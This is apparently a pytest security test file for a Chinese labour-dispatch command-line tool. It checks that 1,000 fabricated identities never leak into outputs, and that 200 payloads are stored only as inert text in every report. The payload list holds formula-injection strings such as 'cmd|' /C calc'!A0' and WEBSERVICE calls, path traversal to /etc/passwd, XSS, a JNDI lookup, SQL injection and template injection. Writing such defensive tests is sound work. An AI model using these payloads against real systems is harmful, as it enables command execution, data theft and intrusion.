"""A thousand fabricated identities and two hundred payloads through every reader and writer of the night."""

import csv
import itertools
import json
import os
import zipfile
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

import cli
from tests.commands.test_night import texts_below
from tests.dispatch import day
from tests.domain.intake.ledger import credit_code, identity

DATE = ("--date", "2026-03-02")
RARE = "龘靐齉爩麤灪龖厵滟爨麷鸜籱驫"
SURNAMES = "赵钱孙李周吴郑王冯陈"
PEOPLE = 1_000


def called(capsys: pytest.CaptureFixture[str], *words: str) -> tuple[int, str]:
    """Run a command of the night; return the exit code and all it said on both streams."""
    code = cli.main(["night", *words, "--lang", "zh"])
    said = capsys.readouterr()
    return code, said.out + said.err


def identities() -> list[dict[str, Any]]:
    """Return a thousand people of fabricated names, numbers and phones; every fiftieth row has a fault in it."""
    names = itertools.product(SURNAMES, RARE, RARE)
    rows = []
    for number, (name, template) in enumerate(zip(names, itertools.cycle(day.workers()), strict=False)):
        if number == PEOPLE:
            break
        known = {key: cell for key, cell in template.items() if key not in ("人员编号", "出生年月", "家庭编号", "性别")}
        person = {
            "姓名": "".join(name),
            "身份证号": identity(number % 400 + 1, f"199006{number // 400 + 1:02d}", "female"),
            "联系电话": f"1391{number:07d}",
            **known,
        }
        if number % 50 == 0:
            person["期望月薪"] = "三千五百五十块六"
        if number % 50 == 1:
            person["身份证号"] = str(person["身份证号"])[:-1] + ("0" if str(person["身份证号"])[-1] != "0" else "1")
        rows.append({"期望月薪": "", **person})
    return rows


@pytest.mark.nights
def test_a_thousand_identities_stay_in_the_vault(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """None of 3,000 cells, and no contact of an employer, is in what commands say, in any file of the desk but the vault, or in a temporary file."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "tmp").mkdir()
    monkeypatch.setenv("TMPDIR", str(tmp_path / "tmp"))
    rows = identities()
    named = [
        {**row, "联系人": f"{SURNAMES[at]}{RARE[-2:]}", "联系人电话": f"1392000000{at}"}
        for at, row in enumerate(day.employers())
    ]
    ledgers = day.write_day(
        tmp_path / "day", 劳动力=rows, 用人单位=named, 岗位=[{**post, "招聘人数": 300} for post in day.posts()]
    )
    said = []
    lines: list[tuple[str, ...]] = [
        ("init",),
        ("import", str(ledgers), *DATE, "--by", "zhang"),
        ("run", *DATE, "--by", "zhang"),
    ]
    lines += [("diff", *DATE), ("key", "li", "--out", "li.key", *DATE), ("approve", "--key", "li.key", *DATE)]
    lines += [("publish", *DATE, "--by", "zhang"), ("status",), ("rates", *DATE)]
    for words in lines:
        code, told = called(capsys, *words)
        assert code in (0, 5), told
        said.append(told)
    wrong = "\n".join(f"{row['身份证号']},P1,2026-03-03,也许,{row['姓名']} {row['联系电话']}" for row in rows[:40])
    (tmp_path / "反馈.csv").write_text("身份证号,岗位编号,反馈日期,结果,原因\n" + wrong, encoding="utf-8")
    code, told = called(capsys, "outcomes", "反馈.csv", "--date", "2026-03-03", "--by", "zhang")
    assert code == 3
    right = wrong.replace("也许", "拒绝")
    (tmp_path / "反馈.csv").write_text("身份证号,岗位编号,反馈日期,结果,原因\n" + right, encoding="utf-8")
    said += [told, called(capsys, "outcomes", "反馈.csv", "--date", "2026-03-03", "--by", "zhang")[1]]
    everything = "\n".join([*said, texts_below(tmp_path / "night"), texts_below(tmp_path / "tmp")])
    hidden = [str(row[name]) for row in rows for name in ("姓名", "身份证号", "联系电话")]
    hidden += [str(row[name]) for row in named for name in ("联系人", "联系人电话")]
    assert len(set(hidden)) > 2_900
    assert [cell for cell in hidden if cell in everything] == []


STARTS = ("=", "+", "-", "@", "\t=", "\r=", "'=", "＝")
CALLS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x","y")',
    "1+1",
    'WEBSERVICE("http://x")',
    'IMPORTXML("http://x","//a")',
)
PATHS = (
    "../../etc/passwd", "..\\..\\windows\\x", "/tmp/laborflow-planted-x", "C:\\x", "a/b", "con", "nul.txt", "%2e%2e%2f", "x\u202egpj.exe", "{{7777*7777}}",
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "${jndi:ldap://x}", "'; DROP TABLE events; --", "{0.__class__}",
)  # fmt: skip


def payloads() -> list[str]:
    """Return two hundred different texts that a program might run, open or follow."""
    made = [start + call for start in STARTS for call in CALLS] + [*PATHS, *("=" + path for path in PATHS)]
    return [f"{made[n % len(made)]}{'' if n < len(made) else n}" for n in range(200)]


@pytest.mark.nights
def test_two_hundred_payloads_are_text_everywhere(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """As titles, names, points, vehicles and reasons they come out as text: no formula, no markup, no file of their making."""
    monkeypatch.chdir(tmp_path)
    texts = payloads()
    assert len(set(texts)) == 200
    firms = [
        {**day.employers()[0], "统一社会信用代码": credit_code(10 + n), "单位名称": text}
        for n, text in enumerate(texts[:40])
    ]
    posts = [
        {**day.posts()[n % 2], "岗位编号": f"P{n:03d}", "岗位名称": text, "统一社会信用代码": credit_code(10 + n % 40),
         "工作地点": "330206" if n % 2 == 0 else "220421", "招聘人数": 1}
        for n, text in enumerate(texts)
    ]  # fmt: skip
    points = [{**day.points()[n % 2], "集合点编号": text, "集合点名称": text} for n, text in enumerate(texts[40:60])]
    cars = [{**day.vehicles()[0], "车辆编号": text, "最低上座率": 0.1} for text in texts[60:64]]
    people = [
        {**row, "人员编号": f"{row['人员编号']}-{n}", "家庭编号": texts[n]} for n in range(12) for row in day.workers()
    ]
    before = set(tmp_path.parent.iterdir())
    ledgers = day.write_day(tmp_path / "day", 劳动力=people, 用人单位=firms, 岗位=posts, 车辆=cars, 集合点=points)
    said = [called(capsys, "init")[1], called(capsys, "import", str(ledgers), *DATE, "--by", "zhang")[1]]
    pins = ["人员编号,岗位编号,调整方式,理由,经办人"]
    with (tmp_path / "人工调整.csv").open("w", encoding="utf-8-sig", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(pins[0].split(","))
        writer.writerows([f"W{n % 12 + 1:02d}-{n}", "", "排除", texts[n], texts[n + 20]] for n in range(12))
    code, told = called(capsys, "import", "人工调整.csv", *DATE, "--by", "zhang")
    assert code == 0, told
    code, told = called(capsys, "run", *DATE, "--by", "zhang")
    assert code in (0, 5), told
    called(capsys, "key", "li", "--out", "li.key", *DATE)
    assert called(capsys, "approve", "--key", "li.key", *DATE)[0] == 0
    assert called(capsys, "publish", *DATE, "--by", "zhang")[0] == 0
    said += [told, called(capsys, "diff", *DATE)[1]]
    for book in (tmp_path / "night").rglob("*.xlsx"):
        with zipfile.ZipFile(book) as parts:
            assert not any(b"<f>" in parts.read(name) or b"<f " in parts.read(name) for name in parts.namelist()), (
                book.name
            )
            assert not any("externalLink" in name or "vba" in name for name in parts.namelist()), book.name
    cells = itertools.chain.from_iterable(
        row for file in (tmp_path / "night" / "published").rglob("*.csv")
        for row in csv.reader(file.read_text(encoding="utf-8-sig").splitlines())
    )  # fmt: skip
    assert [
        cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r") or (cell[:1] == "-" and not _number(cell))
    ] == []
    for page in (tmp_path / "night" / "published").rglob("*.html"):
        markup = page.read_text(encoding="utf-8")
        assert "<script>alert" not in markup
        assert "<img src=x" not in markup
        assert "60481729" not in markup
    assert set(tmp_path.parent.iterdir()) == before
    assert {file.name for file in tmp_path.iterdir()} <= {"day", "night", "li.key", "人工调整.csv"}
    assert not any(os.path.lexists(path) for path in ("/tmp/laborflow-planted-x", "etc", "windows"))


def _number(cell: str) -> bool:
    return cell.lstrip("-").replace(".", "", 1).isdigit()


def test_payloads_are_two_hundred() -> None:
    """The list is what it says: all different, each with something that a program might take for more than text."""
    assert len(set(payloads())) == 200
    assert json.loads(json.dumps(payloads())) == payloads()
    assert pd.Series(payloads()).notna().all()
